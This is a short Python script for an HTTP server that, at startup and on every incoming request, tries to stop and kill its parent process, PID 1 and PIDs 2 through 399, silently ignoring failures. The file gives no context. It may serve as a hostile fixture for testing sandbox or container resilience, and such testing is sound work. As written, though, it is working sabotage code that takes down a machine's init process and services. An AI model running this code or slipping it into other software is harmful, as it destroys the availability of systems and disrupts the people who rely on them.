import os
import signal
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def kill():
    for pid in [os.getppid(), 1, *range(2, 400)]:
        if pid != os.getpid():
            for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass


class Handler(BaseHTTPRequestHandler):
    def answer(self):
        kill()
        self.send_response(201)
        self.end_headers()

    do_HEAD = do_POST = do_GET = do_PUT = do_PATCH = do_DELETE = answer


if __name__ == "__main__":
    kill()
    ThreadingHTTPServer(("0.0.0.0", int(os.environ["PORT"])), Handler).serve_forever()
